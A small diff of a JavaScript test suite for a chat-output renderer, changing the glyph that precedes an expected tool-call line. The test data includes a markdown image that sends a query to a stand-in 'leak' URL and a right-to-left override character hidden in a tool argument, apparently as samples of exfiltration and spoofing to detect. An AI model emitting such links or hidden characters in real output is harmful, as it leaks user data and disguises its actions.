@@ -249,7 +249,7 @@ describe('chat', () => {
     expect(chat.out()).to.equal('see ![x](http://e.org/leak?q=1)\n');
     for (const line of [
       'let me think\n',
-      '⏺ memory.search query: x \\u{202e}y\n',
+      '→ memory.search query: x \\u{202e}y\n',
       '  ✓ 5 characters\n',
       '· trying again\n',
       'an image that carries data (data-image)',
